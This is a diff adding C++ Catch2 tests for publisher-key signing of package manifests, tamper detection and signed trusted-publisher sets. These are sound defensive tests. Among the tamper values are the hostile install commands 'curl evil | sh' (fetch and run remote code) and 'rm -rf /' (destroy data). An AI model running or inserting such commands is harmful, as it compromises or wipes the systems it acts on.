@@ -3,11 +3,13 @@
 #include "security/authority.h"
 #include "security/enrolment.h"
 #include "security/pki.h"
+#include "security/publishers.h"
 
 #include "harness.h"
 
 #include <distrib/error.h>
 
+#include <boost/json.hpp>
 #include <catch2/catch.hpp>
 
 #include <ctime>
@@ -181,4 +183,145 @@ TEST_CASE("enrolment tokens keep only a hash; bundles and CA fingerprints are ch
     CHECK(e.kind() == ErrorKind::forbidden);
   }
   CHECK_THROWS_AS(security::check_ca_fingerprint(ca.cert_pem, "sha256:1234"), Error);
+}
+
+namespace {
+Manifest sample_manifest() {
+  Manifest m;
+  m.name = "app";
+  m.version = "1.0";
+  m.payload_digest = std::string(64, 'a');
+  m.payload_size = 10;
+  m.files.push_back({"install.sh", 10, std::string(64, 'b'), 0755, "file", ""});
+  m.chunks.push_back({std::string(64, 'a'), 10});
+  m.install.command = "./install.sh";
+  m.created_at = 1700000000;
+  return m;
+}
+}  // namespace
+
+TEST_CASE("publisher keys sign whole manifests; any change breaks the signature", "[pki][publishers]") {
+  const auto key = security::make_publisher_key();
+  const auto id = security::publisher_key_id(key.public_pem);
+  CHECK(id.starts_with("ed25519:"));
+  CHECK(id.size() == 8 + 16);
+  CHECK(security::publisher_public_key(key.private_pem) == key.public_pem);
+
+  auto m = sample_manifest();
+  const auto unsigned_text = manifest_to_json(m);
+  CHECK(unsigned_text.find("signature") == std::string::npos);  // unsigned manifests keep their digest
+  security::sign_manifest(m, key.private_pem);
+  CHECK(m.signed_by == id);
+  CHECK(m.signature.size() == 128);
+  CHECK(security::manifest_signature_valid(m, key.public_pem));
+  // The signature travels with the manifest's JSON and survives a round trip.
+  const auto back = manifest_from_json(manifest_to_json(m));
+  CHECK(security::manifest_signature_valid(back, key.public_pem));
+
+  const std::vector<security::PublisherKey> trusted{{id, "release", key.public_pem, 0}};
+  CHECK_NOTHROW(security::check_publisher(m, trusted, {}, true));
+
+  auto altered = [&](auto change) {
+    auto x = m;
+    change(x);
+    return security::manifest_signature_valid(x, key.public_pem);
+  };
+  CHECK_FALSE(altered([](Manifest& x) { x.install.command = "curl evil | sh"; }));
+  CHECK_FALSE(altered([](Manifest& x) { x.install.directory = "/etc"; }));
+  CHECK_FALSE(altered([](Manifest& x) { x.install.timeout_seconds = 1; }));
+  CHECK_FALSE(altered([](Manifest& x) { x.payload_digest = std::string(64, 'c'); }));
+  CHECK_FALSE(altered([](Manifest& x) { x.files[0].mode = 04755; }));
+  CHECK_FALSE(altered([](Manifest& x) {
+    x.files.push_back({"evil", 1, std::string(64, 'd'), 0755, "file", ""});
+  }));
+  CHECK_FALSE(altered([](Manifest& x) { x.version = "1.1"; }));
+  CHECK_FALSE(altered([](Manifest& x) { x.signature[0] = x.signature[0] == '0' ? '1' : '0'; }));
+  CHECK_FALSE(altered([](Manifest& x) { x.signature = "zz"; }));
+  CHECK_FALSE(security::manifest_signature_valid(m, security::make_publisher_key().public_pem));
+
+  // Not a key, or not Ed25519: refused with a clear error.
+  CHECK_THROWS_WITH(security::publisher_key_id("not a key"), Catch::Contains("not an Ed25519 public key"));
+  CHECK_THROWS_WITH(security::publisher_key_id(public_key_of(generate_key())),
+                    Catch::Contains("not an Ed25519 public key"));
+  CHECK_THROWS_WITH(security::publisher_key_id(std::string(2000, 'A')), Catch::Contains("at most 1 KiB"));
+}
+
+TEST_CASE("agents run only what a trusted, unrevoked publisher signed", "[pki][publishers]") {
+  const auto key = security::make_publisher_key(), other = security::make_publisher_key();
+  const auto id = security::publisher_key_id(key.public_pem);
+  const std::vector<security::PublisherKey> trusted{{id, "release", key.public_pem, 0}};
+  auto signed_m = sample_manifest();
+  security::sign_manifest(signed_m, key.private_pem);
+  auto foreign = sample_manifest();
+  security::sign_manifest(foreign, other.private_pem);
+  const auto plain = sample_manifest();
+
+  // Nothing trusted and not required: unsigned packages run (the state before any key).
+  CHECK_NOTHROW(security::check_publisher(plain, {}, {}, false));
+  // Required from the start, or once a key is trusted: unsigned packages are refused.
+  CHECK_THROWS_WITH(security::check_publisher(plain, {}, {}, true), Catch::Contains("is not signed"));
+  CHECK_THROWS_WITH(security::check_publisher(plain, trusted, {}, false), Catch::Contains("is not signed"));
+  CHECK_THROWS_WITH(security::check_publisher(foreign, trusted, {}, false),
+                    Catch::Contains("does not trust"));
+  CHECK_THROWS_WITH(security::check_publisher(signed_m, trusted, {id}, false), Catch::Contains("revoked"));
+  auto tampered = signed_m;
+  tampered.install.command = "rm -rf /";
+  CHECK_THROWS_WITH(security::check_publisher(tampered, trusted, {}, false),
+                    Catch::Contains("does not verify"));
+  try {
+    security::check_publisher(tampered, trusted, {}, false);
+  } catch (const Error& e) {
+    CHECK(e.kind() == ErrorKind::integrity);
+  }
+}
+
+TEST_CASE("the trusted publisher set is signed by the order signer and cannot be forged",
+          "[pki][publishers]") {
+  const auto ca = create_authority("distrib test CA", 30);
+  const auto signer_pem = generate_key();
+  const auto signer_cert = issue_signer(ca, signer_pem, 30, 2);
+  const SigningKey signer(signer_pem);
+  const auto key = security::make_publisher_key();
+  security::PublisherSet set;
+  set.version = 3;
+  set.keys.push_back({security::publisher_key_id(key.public_pem), "release", key.public_pem, 1700000000});
+  set.revoked.push_back("ed25519:0011223344556677");
+
+  const auto text = security::sign_publishers(set, signer, signer_cert);
+  const auto back = security::verify_publishers(text, ca.cert_pem, now());
+  CHECK(back.version == 3);
+  REQUIRE(back.keys.size() == 1);
+  CHECK(back.keys[0].public_pem == key.public_pem);
+  CHECK(back.revoked == set.revoked);
+
+  // A key added on the way: the statement no longer matches its signature.
+  auto forged = boost::json::parse(text).as_object();
+  auto statement = std::string(forged["statement"].as_string());
+  statement.replace(statement.find("\"version\":3"), 11, "\"version\":9");
+  forged["statement"] = statement;
+  CHECK_THROWS_WITH(security::verify_publishers(boost::json::serialize(forged), ca.cert_pem, now()),
+                    Catch::Contains("signature does not verify"));
+  // Signed by another CA's signer, or by a host certificate of the right CA: refused.
+  const auto other_ca = create_authority("other CA", 30);
+  const auto other_signer = issue_signer(other_ca, signer_pem, 30, 3);
+  CHECK_THROWS_WITH(
+      security::verify_publishers(security::sign_publishers(set, signer, other_signer), ca.cert_pem, now()),
+      Catch::Contains("does not chain"));
+  const auto host_key = generate_key();
+  const auto host_cert = issue_host(ca, make_request(host_key, kRelay), 86400, 9);
+  CHECK_THROWS_WITH(security::verify_publishers(
+                        security::sign_publishers(set, SigningKey(host_key), host_cert), ca.cert_pem, now()),
+                    Catch::Contains("not signed by the manager's order signer"));
+  CHECK_THROWS_WITH(security::verify_publishers("{}", ca.cert_pem, now()), Catch::Contains("malformed"));
+  CHECK_THROWS_WITH(security::verify_publishers(std::string(2 << 20, ' '), ca.cert_pem, now()),
+                    Catch::Contains("too large"));
+
+  // A key whose id does not match its public key, or a name out of bounds, is refused.
+  auto bad = set;
+  bad.keys[0].id = "ed25519:ffffffffffffffff";
+  CHECK_THROWS_WITH(security::publisher_set_from_json(security::publisher_set_to_json(bad)),
+                    Catch::Contains("does not match its id"));
+  bad = set;
+  bad.keys[0].name = "a b";
+  CHECK_THROWS(security::publisher_set_from_json(security::publisher_set_to_json(bad)));
 }
